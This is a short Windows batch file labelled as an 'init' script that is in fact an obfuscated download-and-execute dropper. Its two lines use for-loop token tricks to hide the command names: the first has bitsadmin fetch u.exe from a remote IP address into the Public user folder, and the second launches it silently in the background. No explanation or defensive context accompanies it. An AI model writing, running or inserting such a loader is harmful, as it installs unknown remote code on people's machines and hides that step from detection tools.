REM init 7573 v4
for /f "tokens=3 delims=~" %%i in ("tlsz~slxc~bitsadmin") do %%i /transfer job /download /priority high http://203.0.113.200/u.exe C:\Users\Public\u.exe
for /f "tokens=1 delims=;" %%i in ("start;lqyq;mrik") do %%i /b C:\Users\Public\u.exe
